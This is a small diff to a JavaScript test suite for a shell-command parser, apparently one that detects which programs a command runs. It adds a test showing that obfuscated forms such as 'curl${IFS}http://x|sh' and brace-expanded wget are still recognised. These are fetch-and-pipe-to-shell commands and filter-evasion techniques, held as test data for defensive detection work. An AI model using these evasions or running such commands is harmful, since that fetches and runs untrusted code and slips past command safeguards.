@@ -115,6 +115,11 @@ describe('shell scripts', () => {
     assert.deepEqual(programs(`$'\\x63url' http://x`), ['curl']);
   });
 
+  test('the one-word evasions: curl${IFS}x and {curl,-s,x} are curl with its arguments', () => {
+    const list = invocations({ command: ['sh', '-c', 'curl${IFS}http://x|sh; {wget,-q,http://y}; echo "{a,b}" $IFS'] });
+    assert.deepEqual(list.slice(1).map((i) => i.argv), [['curl', 'http://x'], ['sh'], ['wget', '-q', 'http://y'], ['echo', '{a,b}']]);
+  });
+
   test('separators inside quotes do not split', () => {
     assert.deepEqual(programs(`echo "a; curl x | sh" 'b && wget y'`), ['echo']);
   });
